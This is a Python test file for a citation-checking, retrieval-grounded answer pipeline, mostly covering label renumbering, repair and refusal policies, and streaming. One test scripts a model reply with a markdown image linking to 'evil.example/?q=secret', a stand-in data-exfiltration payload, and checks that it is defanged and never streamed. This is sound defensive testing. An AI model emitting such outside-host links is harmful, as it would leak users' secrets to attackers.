"""The citation check in a turn: renumbered labels, policies, and how they go with streaming (V1, T5, decision 5)."""

from __future__ import annotations

import json
import re

import pytest
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.store.memory import InMemoryStore
from turns import asking, docs, notes, thread

from groundgraph import InMemorySource, load_provenance, load_settings, turn_graph
from groundgraph.core.errors import ConfigurationError
from groundgraph.testing import Reply, ScriptedChatModel

WRONG = "Clients are included in 7 grant types [2]. OAuth has four grant types [1]."
RIGHT = "Grant types of OAuth 2.0 include client credentials [2]. OAuth has four grant types [1]."


def build(reply, style: str = "conversational", policies: dict | None = None, sources: list | None = None, **options):
    values = {"intent": {"mode": "static"}, "synthesis": {"style": style}, "citation_check": policies or {}}
    model = ScriptedChatModel(reply)
    return turn_graph(load_settings(values), sources=sources or [docs(), notes()], chat_model=model, **options), model


def kinds(result) -> list[str]:
    return [flag["kind"] for flag in result["support"]["flags"]]


@pytest.mark.covers("V1")
async def test_labels_are_renumbered_alike_in_answer_citations_and_provenance() -> None:
    saver, store = InMemorySaver(), InMemoryStore()
    graph, model = build(RIGHT, checkpointer=saver, store=store)
    result = await graph.ainvoke(asking(), thread())
    assert 'number="2"' in model.calls[0].text
    assert result["answer"] == (
        "Grant types of OAuth 2.0 include client credentials [1]. OAuth has four grant types [2]."
    )
    assert [(one["label"], one["source_name"]) for one in result["citations"]] == [(1, "notes"), (2, "docs")]
    assert [one["quote"] for one in result["citations"]][1] == "OAuth has four grant types."
    assert {row["label"]: row["source_name"] for row in result["provenance"]["results"]} == {1: "notes", 2: "docs"}
    assert result["provenance"]["citation_check"]["order"] == [2, 1]
    record = await load_provenance(graph, "t")
    assert record["citations"] == result["citations"]
    assert result["support"]["flags"] == []
    json.dumps(result["provenance"])


@pytest.mark.covers("S1", "S4")
@pytest.mark.parametrize("style", ["hybrid", "structured"])
async def test_every_style_numbers_by_first_use_and_the_listing_agrees(style) -> None:
    result = await build("Client credentials [2].", style)[0].ainvoke(asking())
    texts = {row["label"]: row["source_name"] for row in result["provenance"]["results"]}
    cited = {one["label"]: one["source_name"] for one in result["citations"]}
    assert cited.items() <= texts.items()
    # Without a model what is listed and not quoted is no citation.
    assert set(cited) == (
        {1, 2} if style == "hybrid" else {int(n) for n in re.findall(r"^> .* \[(\d)\]$", result["answer"], re.M)}
    )
    if style == "hybrid":
        assert result["answer"].startswith("Client credentials [1].\n\n## Sources")
        assert "- [1] notes 0 (relevance" in result["answer"]
        assert "- [2] OAuth > Grants" in result["answer"]
        assert texts == {1: "notes", 2: "docs"}


@pytest.mark.parametrize("policy", ["annotate", "repair", "refuse"])
async def test_tokens_stream_only_when_nothing_can_hold_the_answer(policy) -> None:
    graph, _ = build(Reply(chunks=[word + " " for word in RIGHT.split()]), policies={"numbers": policy})
    pieces, before, events = [], [], []
    async for mode, item in graph.astream(asking(), stream_mode=["messages", "custom"]):
        if mode == "messages" and item[0].text:
            pieces.append(item[0].text)
            before = before or list(events)
        elif mode == "custom":
            events.append(item["stage"])
    assert "".join(pieces) == (await graph.ainvoke(asking()))["answer"]
    assert (len(pieces) > 1) is (policy == "annotate")
    assert ("answer_released" in before) is (policy != "annotate")


@pytest.mark.covers("V1")
@pytest.mark.parametrize("style", ["conversational", "hybrid"])
async def test_repair_is_one_call_that_is_told_what_failed(style) -> None:
    graph, model = build([WRONG, RIGHT], style, {"numbers": "repair"})
    result = await graph.ainvoke(asking())
    assert len(model.calls) == 2
    assert "7 does not stand in the evidence" in model.calls[1].text
    assert "Clients are included in 7 grant types [2]." in model.calls[1].text
    assert result["answer"].startswith("Grant types of OAuth 2.0 include client credentials [1].")
    assert kinds(result) == []
    assert result["provenance"]["repaired"] is True
    assert [call["role"] for call in result["provenance"]["models"]] == ["answer", "repair"]
    assert {one["label"]: one["source_name"] for one in result["citations"]} == {1: "notes", 2: "docs"}


@pytest.mark.covers("V1")
async def test_what_a_repair_leaves_is_annotated_and_not_repaired_again() -> None:
    graph, model = build([WRONG, WRONG], policies={"numbers": "repair"})
    result = await graph.ainvoke(asking())
    assert len(model.calls) == 2
    assert "number_unsupported" in kinds(result)
    assert [note for note in result["notes"] if "could not correct" in note] == result["notes"]


@pytest.mark.covers("S9", "fault 20")
@pytest.mark.parametrize(
    ("reply", "told"),
    [
        ("NO_ANSWER: the number", "what is missing: the number"),
        ("The evidence does not say it.", "found no answer"),
        ("I'm sorry, but I can't help with that.", "found no answer"),
        (Reply("", finish_reason="content_filter"), "declined"),
    ],
)
async def test_an_answer_that_its_model_takes_back_is_none(reply, told) -> None:
    graph, _ = build([WRONG, reply], policies={"numbers": "repair"})
    result = await graph.ainvoke(asking())
    assert result["outcome"] == "insufficient"
    assert told in result["notes"][0]
    assert "7 grant types" not in result["answer"]


@pytest.mark.covers("S8")
@pytest.mark.parametrize(
    ("first", "second", "outcome"),
    [
        (WRONG, "Which grant do you mean?", "clarify"),
        ("Do you mean one of the 7 grants [1]?", RIGHT, "answered"),
        ("The passages do not say that there are 7 grants.", RIGHT, "answered"),
        (Reply(WRONG, finish_reason="length"), RIGHT, "answered"),
    ],
)
async def test_a_repaired_answer_has_the_outcome_and_the_notes_of_its_own_words(first, second, outcome) -> None:
    graph, model = build([first, second], policies={"numbers": "repair"})
    result = await graph.ainvoke(asking())
    assert len(model.calls) == 2
    assert (result["outcome"], result["notes"]) == (outcome, [])
    assert result["provenance"]["outcome"] == outcome


@pytest.mark.parametrize(
    "second",
    [Reply("", status=400), Reply("Let me look.", tool_calls=[{"name": "search", "args": {"query": "OAuth"}}])],
)
async def test_a_repair_that_fails_leaves_the_first_answer_with_a_note(second) -> None:
    graph, _ = build([WRONG, second], policies={"numbers": "repair"})
    result = await graph.ainvoke(asking())
    assert result["answer"].startswith("Clients are included in 7 grant types [1].")
    assert "number_unsupported" in kinds(result)
    assert any("could not correct" in note for note in result["notes"])


async def test_an_answer_without_findings_is_not_repaired() -> None:
    graph, model = build([RIGHT], policies=dict.fromkeys(("labels", "quotes", "numbers", "names", "support"), "repair"))
    assert kinds(await graph.ainvoke(asking())) == []
    assert len(model.calls) == 1


@pytest.mark.covers("V1")
@pytest.mark.parametrize(
    ("question", "says"),
    [("Which grant types does OAuth have?", "withheld"), ("Какие типы grant у OAuth?", "не показан")],
)
async def test_refuse_replaces_the_answer_and_keeps_the_flags(question, says) -> None:
    graph, _ = build(WRONG, policies={"numbers": "refuse"}, checkpointer=InMemorySaver())
    pieces = [chunk.text async for chunk, _ in graph.astream(asking(question), thread(), stream_mode="messages")]
    result = await graph.ainvoke(asking(question), thread("other"))
    assert says in result["answer"]
    assert "".join(pieces) == result["answer"]
    assert (result["outcome"], result["citations"]) == ("insufficient", [])
    assert "number_unsupported" in kinds(result)


@pytest.mark.covers("T5")
@pytest.mark.parametrize(
    ("policies", "extra"),
    [
        ({}, set()),
        ({"names": "repair"}, {"repair_answer"}),
        ({"names": "refuse"}, {"refuse_answer"}),
        ({"names": "refuse", "labels": "repair"}, {"refuse_answer", "repair_answer"}),
    ],
)
def test_the_graph_holds_only_the_steps_that_a_policy_asks_for(policies, extra) -> None:
    nodes = set(build("x", policies=policies)[0].get_graph().nodes)
    assert nodes & {"refuse_answer", "repair_answer"} == extra


def test_a_repair_without_a_model_is_refused_when_the_graph_is_built() -> None:
    settings = load_settings({"citation_check": {"quotes": "repair"}})
    with pytest.raises(ConfigurationError, match=r"citation_check\.quotes: repair needs a model"):
        turn_graph(settings, sources=[docs()])


@pytest.mark.covers("fault 57", "F8")
async def test_an_image_to_an_outside_host_is_never_streamed() -> None:
    reply = Reply(chunks=["OAuth has four grant types [1] ![x](ht", "tps://evil.example/?q=", "secret) and more."])
    graph, _ = build(reply, checkpointer=InMemorySaver())
    pieces = [chunk.text async for chunk, _ in graph.astream(asking(), thread(), stream_mode="messages")]
    told = "OAuth has four grant types [1] \\![x]\\(https[://]evil[.]example/?q=secret) and more."
    assert "".join(pieces) == told
    result = await build(reply)[0].ainvoke(asking())
    assert result["answer"] == told
    (flag,) = [flag for flag in result["support"]["flags"] if flag["kind"] == "link_removed"]
    assert flag["detail"] == "https[://]evil[.]example/?q=secret leads elsewhere than the evidence allows"
    assert "evil.example" not in str(result["provenance"])
    assert any("do not lead to the evidence" in note for note in result["notes"])


@pytest.mark.covers("fault 57")
async def test_an_image_in_the_evidence_is_shown_as_text() -> None:
    sources = [InMemorySource(["OAuth grant types ![x](https://evil.example/p.png) are four types."], name="d")]
    result = await build("", "structured", sources=sources)[0].ainvoke(asking())
    assert "![" not in result["answer"]


@pytest.mark.covers("fault 27", "fault 28")
async def test_findings_are_in_the_output_with_their_sentence() -> None:
    text = 'The source says "OAuth has five grant types" [1]. It names 17 clients [2].'
    result = await build(text)[0].ainvoke(asking())
    found = {flag["kind"]: flag for flag in result["support"]["flags"]}
    assert found["quote_not_found"]["sentence"].startswith("The source says")
    assert "17" in found["number_unsupported"]["detail"]
    assert result["provenance"]["citation_check"]["flags"] == result["support"]["flags"]


@pytest.mark.covers("S3")
async def test_general_knowledge_is_marked_and_not_a_fault() -> None:
    text = "OAuth has four grant types [1]. General knowledge: Kerberos was made at MIT in 1983."
    settings = {"intent": {"mode": "static"}, "synthesis": {"allow_parametric": True}}
    graph = turn_graph(load_settings(settings), sources=[docs()], chat_model=ScriptedChatModel(text))
    assert kinds(await graph.ainvoke(asking())) == []
    strict, _ = build(text)
    assert "uncited" in kinds(await strict.ainvoke(asking()))


@pytest.mark.covers("T3")
@pytest.mark.parametrize("policies", [{"numbers": "repair"}, {"numbers": "refuse"}])
async def test_a_turn_with_policies_replays_from_every_step(policies) -> None:
    graph, _ = build([WRONG, *[RIGHT] * 20], policies=policies, checkpointer=InMemorySaver(), store=InMemoryStore())
    first = await graph.ainvoke(asking(), thread(), durability="sync")
    for snapshot in [one async for one in graph.aget_state_history(thread())]:
        if snapshot.next and snapshot.next[0] in ("record_turn", "refuse_answer"):
            again = await graph.ainvoke(None, snapshot.config)
            assert again["answer"] == first["answer"]
            assert again["citations"] == first["citations"]
